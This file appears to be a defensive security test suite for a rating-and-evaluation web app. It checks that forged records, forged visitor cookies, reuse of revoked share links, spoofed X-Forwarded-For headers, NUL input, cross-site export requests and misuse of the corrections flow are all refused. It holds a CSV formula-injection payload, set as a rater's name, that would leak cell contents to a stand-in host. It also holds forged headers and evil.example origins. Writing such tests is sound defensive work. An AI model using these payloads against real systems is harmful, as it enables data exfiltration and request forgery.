// Drill 8: the integrity of a suite's numbers and of what flows into them,
// against the built app. Free-form records naming a suite (its tasks, gold ids
// and calibration targets) must not move its agreement, drift or counts;
// made-up visitor cookies must not let one share-link holder take the suite;
// a revoked link must not keep working through another open one; a rater's
// name must not become a formula in a chart's CSV; NUL characters and unpaired
// surrogates must be input errors, not 500s; a cross-site request must not
// start an export; corrections must respect the suite, the bound and the
// item's adjudication, and an adjudicator must not rate what they decided.
import canonicalize from "canonicalize";
import type { Drill, DrillCase, DrillContext, DrillResult } from "../support/drill";
import { drillCase } from "../support/drill";
import { contextWithCookie, launchBrowser } from "./support/browser-check";
import { addUser, api, startDrillApp, type DrillApp, type DrillUser } from "./support/drill-app";
import { linkHourlyCapAtOnce, linksLeaveRaterSlots } from "./share-link-caps";
import { chatItem, draftFor, importItems } from "./support/seed";
import { testPort } from "@/lib/testing/test-ports";

const PORT = testPort(3640);
const HOSTILE_NAME = '=HYPERLINK("http://drill.invalid/?leak="&A1,"open")';
const VISITOR_COOKIE = "evalform_visitor";

type Report = {
  ratings: number;
  items: number;
  likert: unknown;
  calibration: { gold_ratings: number; raters: { rater: string; drifting: string[] }[] };
};

async function report(app: DrillApp, suiteId: string): Promise<Report> {
  const response = await api(app, `/api/suites/${suiteId}/report`, { cookie: app.admin.cookie });
  if (response.status !== 200) throw new Error(`report: ${response.status} ${await response.text()}`);
  return (await response.json()) as Report;
}

async function suiteOf(
  app: DrillApp,
  options: { key: string; items: unknown[]; k: number; goldShare: number; raterIds: string[] },
): Promise<string> {
  const importId = await importItems(app, options.items, `${options.key}.jsonl`);
  const response = await api(app, "/api/suites", {
    cookie: app.admin.cookie,
    body: {
      name: options.key,
      key: options.key,
      overlap_k: options.k,
      gold_share: options.goldShare,
      hold_minutes: 30,
      rater_ids: options.raterIds,
      import_ids: [importId],
    },
  });
  if (response.status !== 201) throw new Error(`create suite: ${response.status} ${await response.text()}`);
  return ((await response.json()) as { id: string }).id;
}

const goldItem = (index: number, key: string) => {
  const item = chatItem(`${key}-${index}`, key, `answer ${index}`) as { task: Record<string, unknown> };
  return {
    ...item,
    task: {
      ...item.task,
      gold_item_id: `gold-${index}`,
      calibration_target: { universal: { helpfulness: { score: 4 } } },
    },
  };
};

/** Rates every item the user can get, with this helpfulness score. */
async function rateAll(app: DrillApp, user: DrillUser, suiteId: string, score: number): Promise<number> {
  let rated = 0;
  for (;;) {
    const next = await api(app, `/api/suites/${suiteId}/next`, { method: "POST", cookie: user.cookie });
    const { assignment_id: assignmentId } = (await next.json()) as { assignment_id: string | null };
    if (!assignmentId) return rated;
    const draft = draftFor("ignored", `rated by ${user.name}`) as { universal: Record<string, { score: number }> };
    draft.universal.helpfulness!.score = score;
    const { task: _task, subject: _subject, ...body } = draft as Record<string, unknown>;
    const submitted = await api(app, `/api/assignments/${assignmentId}/submit`, {
      cookie: user.cookie,
      body: { draft: body },
    });
    if (submitted.status !== 201) throw new Error(`submit: ${submitted.status} ${await submitted.text()}`);
    rated++;
  }
}

async function freeFormAttack(
  app: DrillApp,
  suiteId: string,
  key: string,
  outsider: DrillUser,
  drifting: DrillUser,
): Promise<DrillCase> {
  const before = await report(app, suiteId);
  let stored = 0;
  const post = async (user: DrillUser, index: number, score: number, target: number) => {
    const draft = draftFor(`${key}-${index}`, "free-form") as {
      task: Record<string, unknown>;
      universal: Record<string, { score: number }>;
    };
    draft.task = {
      ...draft.task,
      suite_id: key,
      gold_item_id: `gold-${index}`,
      calibration_target: { universal: { helpfulness: { score: target } } },
    };
    draft.universal.helpfulness!.score = score;
    const response = await api(app, "/api/records", { cookie: user.cookie, body: draft });
    await response.arrayBuffer();
    if (response.status === 201) stored++;
  };
  // A rater on no suite pushes helpfulness away from the raters'; the drifting rater makes targets of their own scores.
  for (let index = 0; index < 24; index++) await post(outsider, index % 6, 1 + (index % 5), 1 + (index % 5));
  for (let index = 0; index < 12; index++) await post(drifting, index % 6, 1, 1);
  const after = await report(app, suiteId);
  const driftingBefore = before.calibration.raters.find((rater) => rater.rater.endsWith(drifting.id))?.drifting ?? [];
  const driftingAfter = after.calibration.raters.find((rater) => rater.rater.endsWith(drifting.id))?.drifting ?? [];
  // Canonical JSON: a cached report comes back from jsonb, whose key order is its own.
  const [likertBefore, likertAfter] = [canonicalize(before.likert) ?? "", canonicalize(after.likert) ?? ""];
  let at = 0;
  while (at < likertBefore.length && likertBefore[at] === likertAfter[at]) at++;
  const unchanged =
    before.ratings === after.ratings &&
    before.items === after.items &&
    likertBefore === likertAfter &&
    before.calibration.gold_ratings === after.calibration.gold_ratings &&
    driftingBefore.length > 0 &&
    driftingAfter.length === driftingBefore.length;
  return drillCase({
    name: "free-form records naming the suite, its gold ids and calibration targets",
    tried: 36,
    refused: unchanged ? 36 : 0,
    lost: 0,
    duplicated: 0,
    ok: unchanged,
    detail: `${stored} stored as free-form records (counted in no suite); report ${before.ratings} → ${after.ratings} ratings on ${before.items} → ${after.items} items, gold ratings ${before.calibration.gold_ratings} → ${after.calibration.gold_ratings}, α ${likertBefore === likertAfter ? "unchanged" : `CHANGED at …${likertBefore.slice(Math.max(0, at - 80), at + 40)}… → …${likertAfter.slice(Math.max(0, at - 80), at + 40)}…`}, drift warning ${driftingAfter.length > 0 ? "still shown" : "GONE"}`,
  });
}

async function forgedVisitors(app: DrillApp, suiteId: string): Promise<DrillCase> {
  const created = await api(app, `/api/suites/${suiteId}/share-links`, {
    cookie: app.admin.cookie,
    body: { label: "one holder" },
  });
  const token = ((await created.json()) as { share_path: string }).share_path.replace("/share/", "");
  let taken = 0;
  let reissued = 0;
  for (let attempt = 0; attempt < 23; attempt++) {
    const response = await api(app, `/api/share/${token}/next`, {
      method: "POST",
      headers: { cookie: `${VISITOR_COOKIE}=${crypto.randomUUID()}` },
    });
    const body = (await response.json()) as { assignment_id?: string | null };
    if (body.assignment_id) taken++;
    if ((response.headers.get("set-cookie") ?? "").startsWith(`${VISITOR_COOKIE}=`)) reissued++;
  }
  // 5 items, k = 2: one link may fill at most ceil(2 / 2) = 1 slot of each.
  const ok = taken <= 5 && reissued === 23;
  return drillCase({
    name: "23 share-link visitors with made-up cookies on a 5-item, k = 2 suite",
    tried: 23,
    refused: 23 - taken,
    lost: 0,
    duplicated: 0,
    ok,
    detail: `${reissued} of 23 made-up ids ignored and replaced by a signed one; the link took ${taken} of 10 slots (cap: half of each item's, rounded up)`,
  });
}

async function revokedLink(app: DrillApp, suiteId: string): Promise<DrillCase> {
  const link = async (label: string) => {
    const created = (await (
      await api(app, `/api/suites/${suiteId}/share-links`, { cookie: app.admin.cookie, body: { label } })
    ).json()) as { id: string; share_path: string };
    return { id: created.id, token: created.share_path.replace("/share/", "") };
  };
  const [first, second] = [await link("to revoke"), await link("still open")];
  const next = await api(app, `/api/share/${first.token}/next`, { method: "POST" });
  const cookie = (next.headers.get("set-cookie") ?? "").split(";")[0]!;
  const { assignment_id: assignmentId } = (await next.json()) as { assignment_id: string | null };
  if (!assignmentId) throw new Error("revoked-link case: no item to take");
  const draft = draftFor("ignored", "visitor") as Record<string, unknown>;
  delete draft.task;
  delete draft.subject;
  const saved = await api(app, `/api/share/${first.token}/assignments/${assignmentId}/draft`, {
    method: "PUT",
    headers: { cookie },
    body: { base_version: 0, draft },
  });
  await saved.arrayBuffer();
  await (await api(app, `/api/share-links/${first.id}`, { method: "DELETE", cookie: app.admin.cookie })).arrayBuffer();
  const attempts: { label: string; status: number }[] = [];
  for (const [label, token] of [
    ["other open link", second.token],
    ["revoked link", first.token],
  ] as const) {
    const put = await api(app, `/api/share/${token}/assignments/${assignmentId}/draft`, {
      method: "PUT",
      headers: { cookie },
      body: { base_version: 1, draft },
    });
    attempts.push({ label: `draft via ${label}`, status: put.status });
    const submit = await api(app, `/api/share/${token}/assignments/${assignmentId}/submit`, {
      headers: { cookie },
      body: { draft },
    });
    attempts.push({ label: `submit via ${label}`, status: submit.status });
    const skip = await api(app, `/api/share/${token}/assignments/${assignmentId}/skip`, {
      headers: { cookie },
      body: { reason: "broken_content" },
    });
    attempts.push({ label: `skip via ${label}`, status: skip.status });
  }
  const refused = attempts.filter((attempt) => attempt.status === 404).length;
  const stored = Number(
    (
      await app.sql.query<{ n: string }>("SELECT count(*) AS n FROM assignment WHERE id = $1 AND status <> 'held'", [
        assignmentId,
      ])
    ).rows[0]!.n,
  );
  return drillCase({
    name: "a revoked link's assignment saved, submitted and skipped through another open link and through itself",
    tried: attempts.length,
    refused,
    lost: 0,
    duplicated: 0,
    ok: refused === attempts.length && stored === 0 && saved.status === 200,
    detail: `${attempts.map((attempt) => `${attempt.label} → ${attempt.status}`).join(", ")}; draft before revoking → ${saved.status}; submitted or skipped after revoking: ${stored}`,
  });
}

async function forgedAddress(app: DrillApp, suiteId: string): Promise<DrillCase> {
  const created = (await (
    await api(app, `/api/suites/${suiteId}/share-links`, { cookie: app.admin.cookie, body: { label: "address" } })
  ).json()) as { share_path: string };
  const token = created.share_path.replace("/share/", "");
  const forged = "203.0.113.77";
  const next = await api(app, `/api/share/${token}/next`, { method: "POST", headers: { "x-forwarded-for": forged } });
  const cookie = (next.headers.get("set-cookie") ?? "").split(";")[0]!;
  const { assignment_id: assignmentId } = (await next.json()) as { assignment_id: string | null };
  if (!assignmentId) throw new Error("address case: no item to take");
  const draft = draftFor("ignored", "visitor") as Record<string, unknown>;
  delete draft.task;
  delete draft.subject;
  const submitted = await api(app, `/api/share/${token}/assignments/${assignmentId}/submit`, {
    headers: { cookie, "x-forwarded-for": forged, "x-evalform-peer-address": forged },
    body: { draft },
  });
  const { eval_id: evalId } = (await submitted.json()) as { eval_id?: string };
  const stored =
    (
      await app.sql.query<{ ip_address: string | null }>(
        "SELECT ip_address FROM audit_event WHERE action = 'record.submitted' AND subject = $1",
        [evalId ?? ""],
      )
    ).rows[0]?.ip_address ?? null;
  const ok = submitted.status === 201 && stored !== null && stored !== forged;
  return drillCase({
    name: "an end-user rating sent with a made-up X-Forwarded-For (and a made-up peer-address header)",
    tried: 1,
    refused: ok ? 1 : 0,
    lost: 0,
    duplicated: 0,
    ok,
    detail: `submit → ${submitted.status}; the per-address limit counted ${stored ?? "no address"} (the connection's), not ${forged}`,
  });
}

async function csvInjection(app: DrillApp, suiteId: string, drifting: DrillUser): Promise<DrillCase> {
  // Set in the database: whatever names the app accepts today, an older one may hold anything.
  await app.sql.query("UPDATE app_user SET name = $1 WHERE id = $2", [HOSTILE_NAME, drifting.id]);
  const browser = await launchBrowser();
  try {
    const context = await contextWithCookie(browser, app.url, app.admin.cookie);
    const page = await context.newPage();
    await page.goto(`${app.url}/admin/suites/${suiteId}/report`);
    const download = page.waitForEvent("download", { timeout: 30_000 });
    await page.locator('[data-testid="drift-chart"]').first().getByRole("button", { name: "CSV" }).click();
    let csv = "";
    for await (const chunk of await (await download).createReadStream()) csv += chunk;
    const header = csv.split(/\r?\n/)[0] ?? "";
    const cells = header.match(/"(?:[^"]|"")*"|[^,]+/g) ?? [];
    const everyCellQuoted = cells.length > 0 && cells.every((cell) => cell.startsWith('"') && cell.endsWith('"'));
    const hostile = cells.find((cell) => cell.includes("HYPERLINK")) ?? "";
    const neutralised = hostile.startsWith(`"'=`);
    return drillCase({
      name: "a rater named =HYPERLINK(…) in the drift chart's CSV download",
      tried: 1,
      refused: everyCellQuoted && neutralised ? 1 : 0,
      lost: 0,
      duplicated: 0,
      ok: everyCellQuoted && neutralised,
      detail: `header ${everyCellQuoted ? "quoted cell by cell" : "NOT quoted"}; the name's cell ${neutralised ? "starts with ' (read as text)" : `is ${hostile.slice(0, 40) || "missing"}`}`,
    });
  } finally {
    await browser.close();
  }
}

async function unstorableText(app: DrillApp, suiteId: string, rater: DrillUser): Promise<DrillCase> {
  const nul = "\u0000";
  const lone = "\uD800";
  const attempts: { label: string; status: number; ok: boolean }[] = [];
  const expect400 = async (label: string, response: Promise<Response>) => {
    const answered = await response;
    const body = (await answered.json().catch(() => ({}))) as { errors?: { path: string }[] };
    attempts.push({
      label,
      status: answered.status,
      ok: answered.status === 400 && (body.errors?.[0]?.path ?? "") !== "",
    });
  };
  const record = (text: string) => ({ ...draftFor("nul-task", "fine"), freeform: { notes: text } });
  await expect400("record with NUL", api(app, "/api/records", { cookie: rater.cookie, body: record(`a${nul}b`) }));
  await expect400(
    "record with a lone surrogate",
    api(app, "/api/records", { cookie: rater.cookie, body: record(`a${lone}b`) }),
  );
  await expect400(
    "suite name with NUL",
    api(app, "/api/suites", {
      cookie: app.admin.cookie,
      body: {
        name: `x${nul}`,
        key: "nul-suite",
        overlap_k: 1,
        gold_share: 0,
        hold_minutes: 5,
        rater_ids: [],
        import_ids: [],
      },
    }),
  );
  await expect400(
    "import file name with a lone surrogate",
    api(app, "/api/imports", { cookie: app.admin.cookie, body: { format: "items", file_name: `f${lone}.jsonl` } }),
  );
  await expect400(
    "report slice with NUL",
    api(app, `/api/suites/${suiteId}/report?system_under_test=a%00b`, { cookie: app.admin.cookie }),
  );
  await expect400("records filter with NUL", api(app, "/api/records?rater_id=%00", { cookie: rater.cookie }));
  // One bad line of an item import: only that line is refused, with its line number and field.
  const created = await api(app, "/api/imports", {
    cookie: app.admin.cookie,
    body: { format: "items", file_name: "nul.jsonl" },
  });
  const { id } = (await created.json()) as { id: string };
  const lines = [
    chatItem("nul-1", "nul", "ok"),
    chatItem("nul-2", "nul", `bad${nul}answer`),
    chatItem("nul-3", "nul", "ok"),
  ];
  const read = await api(app, `/api/imports/${id}/file`, {
    method: "PUT",
    cookie: app.admin.cookie,
    headers: { "content-type": "application/x-ndjson" },
    rawBody: lines.map((line) => JSON.stringify(line)).join("\n"),
  });
  const summary = (await read.json()) as { status?: string; accepted?: number; refused?: number };
  const importReport = (await (await api(app, `/api/imports/${id}/report`, { cookie: app.admin.cookie })).json()) as {
    errors?: { line: number; rule: string; field: string }[];
  };
  const lineRefused =
    summary.status === "awaiting_decision" &&
    summary.accepted === 2 &&
    summary.refused === 1 &&
    importReport.errors?.[0]?.line === 2 &&
    importReport.errors[0].rule === "storableText";
  attempts.push({
    label: `import line 2 (${summary.status}, ${importReport.errors?.[0]?.field ?? "no field"})`,
    status: read.status,
    ok: lineRefused,
  });
  const failed = attempts.filter((attempt) => !attempt.ok);
  return drillCase({
    name: "NUL characters and unpaired surrogates in records, names, file names, filters, slices and an import line",
    tried: attempts.length,
    refused: attempts.length - failed.length,
    lost: 0,
    duplicated: 0,
    ok: failed.length === 0,
    detail:
      failed.length === 0
        ? `all ${attempts.length} refused as input errors naming the field (400; the import refused line 2 only)`
        : `NOT refused as input errors: ${failed.map((attempt) => `${attempt.label} → ${attempt.status}`).join(", ")}`,
  });
}

async function crossSiteExport(app: DrillApp): Promise<DrillCase> {
  const count = async () =>
    Number((await app.sql.query<{ n: string }>("SELECT count(*) AS n FROM record_export")).rows[0]!.n);
  const before = await count();
  const attempts: { label: string; status: number }[] = [];
  // What a link or an image on another site would do: a top-level GET.
  const navigated = await api(app, "/api/export?format=jsonl", {
    cookie: app.admin.cookie,
    headers: { origin: "https://evil.example", "sec-fetch-site": "cross-site", "sec-fetch-mode": "navigate" },
  });
  attempts.push({ label: "GET /api/export from another site", status: navigated.status });
  const posted = await api(app, "/api/exports", {
    cookie: app.admin.cookie,
    body: { format: "jsonl" },
    headers: { origin: "https://evil.example" },
  });
  attempts.push({ label: "POST /api/exports from another site", status: posted.status });
  const started = (await count()) - before;
  return drillCase({
    name: "starting an export from another site with the admin's session",
    tried: attempts.length,
    refused: attempts.filter((attempt) => attempt.status === 403 || attempt.status === 404 || attempt.status === 405)
      .length,
    lost: 0,
    duplicated: 0,
    ok: started === 0,
    detail: `${attempts.map((attempt) => `${attempt.label} → ${attempt.status}`).join(", ")}; exports started: ${started}`,
  });
}

/** The rater's submitted assignments of the suite, by item. */
async function submittedAssignments(app: DrillApp, suiteId: string, user: DrillUser): Promise<Map<string, string>> {
  const { rows } = await app.sql.query<{ id: string; item_id: string }>(
    "SELECT id, item_id FROM assignment WHERE suite_id = $1 AND user_id = $2 AND status = 'submitted'",
    [suiteId, user.id],
  );
  return new Map(rows.map((row) => [row.item_id, row.id]));
}

const countedRecords = async (app: DrillApp, suiteId: string) =>
  Number(
    (await app.sql.query<{ n: string }>("SELECT count(*) AS n FROM suite_record WHERE suite_id = $1", [suiteId]))
      .rows[0]!.n,
  );

/**
 * Issue 33 (3, 5): corrections respect the suite and the item. 22 corrections
 * of one rating at once store as many as they acknowledge, never more than the
 * bound; a correction of a rating an adjudication used reopens the item; none
 * from a removed rater or in an archived suite; and the SME who adjudicated an
 * item is never handed it to rate.
 */
async function correctionsAndAdjudicators(app: DrillApp, key: string): Promise<DrillCase> {
  const [low, high, sme] = [
    await addUser(app, ["rater"], "Low Corrector"),
    await addUser(app, ["rater"], "High Corrector"),
    await addUser(app, ["sme"], "Adjudicating SME"),
  ];
  const suiteId = await suiteOf(app, {
    key,
    items: Array.from({ length: 3 }, (_, index) => chatItem(`${key}-${index}`, key, `answer ${index}`)),
    k: 3,
    goldShare: 0,
    raterIds: [low.id, high.id, sme.id],
  });
  await rateAll(app, low, suiteId, 1);
  await rateAll(app, high, suiteId, 5);
  const [lows, highs] = [await submittedAssignments(app, suiteId, low), await submittedAssignments(app, suiteId, high)];
  // The item's task and subject come from the server.
  const { task: _task, subject: _subject, ...draft } = draftFor("ignored", "corrected");
  const correct = (user: DrillUser, assignmentId: string) =>
    api(app, `/api/assignments/${assignmentId}/correction`, { cookie: user.cookie, body: { draft } });
  const problems: string[] = [];
  const notes: string[] = [];

  // The SME adjudicates one item, then rates what the queue gives: never that item.
  const next = await api(app, `/api/suites/${suiteId}/adjudication-next`, { method: "POST", cookie: sme.cookie });
  const task = (await next.json()) as { adjudication_id: string | null; item_id: string | null };
  if (!task.adjudication_id || !task.item_id) throw new Error(`adjudication-next: ${next.status}`);
  const decided = await api(app, `/api/adjudications/${task.adjudication_id}/submit`, {
    cookie: sme.cookie,
    body: { draft },
  });
  await decided.arrayBuffer();
  if (decided.status !== 201) problems.push(`adjudication submit ${decided.status}`);
  const offered: string[] = [];
  for (;;) {
    const held = await api(app, `/api/suites/${suiteId}/next`, { method: "POST", cookie: sme.cookie });
    const { assignment_id: assignmentId } = (await held.json()) as { assignment_id: string | null };
    if (!assignmentId) break;
    const { rows } = await app.sql.query<{ item_id: string }>("SELECT item_id FROM assignment WHERE id = $1", [
      assignmentId,
    ]);
    offered.push(rows[0]!.item_id);
    const submitted = await api(app, `/api/assignments/${assignmentId}/submit`, {
      cookie: sme.cookie,
      body: { draft },
    });
    await submitted.arrayBuffer();
  }
  if (offered.includes(task.item_id)) problems.push("the SME was handed the item they adjudicated to rate");
  notes.push(`the SME was offered ${offered.length} of 3 items to rate, not the one they adjudicated`);

  // The low rater corrects a rating the decision used: the item needs adjudication again.
  const reopened = await correct(low, lows.get(task.item_id)!);
  await reopened.arrayBuffer();
  const { rows: taskRows } = await app.sql.query<{ task_id: string }>("SELECT task_id FROM item WHERE id = $1", [
    task.item_id,
  ]);
  const listed = await api(
    app,
    `/api/records?suite_id=${key}&task_id=${encodeURIComponent(taskRows[0]!.task_id)}&status=needs_adjudication`,
    { cookie: app.admin.cookie },
  );
  const waiting = ((await listed.json()) as { records?: unknown[] }).records?.length ?? 0;
  if (reopened.status !== 201 || waiting === 0)
    problems.push(`correction of an adjudicated source → ${reopened.status}, item needs adjudication: ${waiting > 0}`);
  notes.push(`a corrected adjudication source reopened the item (${waiting} records under needs_adjudication)`);

  // 22 corrections of one rating at once.
  const [other, last] = [...highs.keys()].filter((item) => item !== task.item_id);
  const before = await countedRecords(app, suiteId);
  const answers = await Promise.all(
    Array.from({ length: 22 }, async () => {
      const response = await correct(high, highs.get(other!)!);
      await response.arrayBuffer();
      return response.status;
    }),
  );
  const acknowledged = answers.filter((status) => status === 201).length;
  const stored = (await countedRecords(app, suiteId)) - before;
  const refusedParallel = answers.filter((status) => status === 409).length;
  if (acknowledged !== stored || stored > 5 || acknowledged + refusedParallel !== 22)
    problems.push(`22 parallel corrections: ${acknowledged} acknowledged, ${stored} stored`);
  notes.push(
    `22 parallel corrections of one rating: ${acknowledged} acknowledged, ${stored} stored, ${refusedParallel} refused (409)`,
  );

  // A removed rater, then every rater of an archived suite.
  const patch = async (change: Record<string, unknown>) => {
    const response = await api(app, `/api/suites/${suiteId}`, {
      method: "PATCH",
      cookie: app.admin.cookie,
      body: change,
    });
    await response.arrayBuffer();
  };
  const beforeRefusals = await countedRecords(app, suiteId);
  await patch({ rater_ids: [low.id, sme.id] });
  const removed = await correct(high, highs.get(last!)!);
  await removed.arrayBuffer();
  await patch({ archived: true });
  const archived = await correct(low, lows.get(last!)!);
  await archived.arrayBuffer();
  const storedAfterRefusals = (await countedRecords(app, suiteId)) - beforeRefusals;
  if (removed.status !== 409 || archived.status !== 409 || storedAfterRefusals !== 0)
    problems.push(
      `removed rater → ${removed.status}, archived suite → ${archived.status}, stored ${storedAfterRefusals}`,
    );
  notes.push(`removed rater → ${removed.status}, archived suite → ${archived.status}, nothing stored`);

  return drillCase({
    name: "corrections in an archived suite, from a removed rater, 22 at once, of an adjudicated source; an adjudicator's own rating",
    tried: 22 + 2 + 1 + offered.length + 1,
    refused: refusedParallel + (removed.status === 409 ? 1 : 0) + (archived.status === 409 ? 1 : 0),
    lost: 0,
    duplicated: Math.max(0, stored - acknowledged),
    ok: problems.length === 0,
    detail: problems.length === 0 ? notes.join("; ") : `FAILED: ${problems.join("; ")}`,
  });
}

async function run(context: DrillContext): Promise<DrillResult> {
  const app = await startDrillApp({ label: "suite_integrity", port: PORT, setup: context.setup });
  const cases: DrillCase[] = [];
  try {
    const [steady, drifting, outsider] = [
      await addUser(app, ["rater"], "Steady Rater"),
      await addUser(app, ["rater"], "Drifting Rater"),
      await addUser(app, ["rater"], "Outsider Rater"),
    ];
    const key = "integrity-gold";
    const goldSuite = await suiteOf(app, {
      key,
      items: Array.from({ length: 6 }, (_, index) => goldItem(index, key)),
      k: 2,
      goldShare: 1,
      raterIds: [steady.id, drifting.id],
    });
    const rated = (await rateAll(app, steady, goldSuite, 4)) + (await rateAll(app, drifting, goldSuite, 1));
    context.log(`seeded a 6-item gold suite, k = 2, ${rated} ratings`);
    const shareSuite = await suiteOf(app, {
      key: "integrity-share",
      items: Array.from({ length: 5 }, (_, index) => chatItem(`share-${index}`, "integrity-share", `answer ${index}`)),
      k: 2,
      goldShare: 0,
      raterIds: [],
    });
    const revokeSuite = await suiteOf(app, {
      key: "integrity-revoke",
      items: [chatItem("revoke-0", "integrity-revoke", "answer")],
      k: 2,
      goldShare: 0,
      raterIds: [],
    });

    // Each share-link case on its own suite: all of a suite's links together fill at most half of an item's slots.
    const shareItems = (key: string, count: number) =>
      Array.from({ length: count }, (_, index) => chatItem(`${key}-${index}`, key, `answer ${index}`));
    const addressSuite = await suiteOf(app, {
      key: "integrity-address",
      items: shareItems("integrity-address", 1),
      k: 2,
      goldShare: 0,
      raterIds: [],
    });
    const hourlySuite = await suiteOf(app, {
      key: "integrity-hourly",
      items: shareItems("integrity-hourly", 40),
      k: 2,
      goldShare: 0,
      raterIds: [],
    });
    const ratedSuite = await suiteOf(app, {
      key: "integrity-links",
      items: shareItems("integrity-links", 3),
      k: 2,
      goldShare: 0,
      raterIds: [outsider.id],
    });

    cases.push(await freeFormAttack(app, goldSuite, key, outsider, drifting));
    cases.push(await forgedVisitors(app, shareSuite));
    cases.push(await revokedLink(app, revokeSuite));
    cases.push(await forgedAddress(app, addressSuite));
    cases.push(await linkHourlyCapAtOnce(app, hourlySuite));
    cases.push(await linksLeaveRaterSlots(app, ratedSuite, outsider));
    cases.push(await csvInjection(app, goldSuite, drifting));
    cases.push(await unstorableText(app, goldSuite, outsider));
    cases.push(await crossSiteExport(app));
    cases.push(await correctionsAndAdjudicators(app, "integrity-corrections"));
  } finally {
    await app.stop();
  }
  return { cases };
}

export const suiteIntegrityDrill: Drill = {
  id: "suite-integrity",
  title: "8. Suite integrity",
  summary:
    "Against the built app: 36 free-form records naming a gold suite (its tasks, gold ids, calibration targets equal to the poster's own scores) must leave its agreement, gold counts and drift warning unchanged; 23 share-link visitors with made-up cookies on a 5-item, k = 2 suite; a revoked link's assignment saved, submitted and skipped through another open link and through itself; 30 new visitors at once on a link capped at 5 items an hour; two default links and 12 visitors on a k = 2 suite, whose rater must still get every item; an end-user rating with a made-up X-Forwarded-For, whose address must be the connection's; a rater named =HYPERLINK(…) in the drift chart's CSV (Chromium); NUL characters and unpaired surrogates in records, names, file names, filters, slices and one import line; starting an export from another site with the admin's session; corrections in an archived suite, from a removed rater, 22 at once of one rating, and of a rating an adjudication used (which must reopen the item), and an SME's rating queue after they adjudicated an item.",
  quick: true,
  everySetup: true,
  run,
};
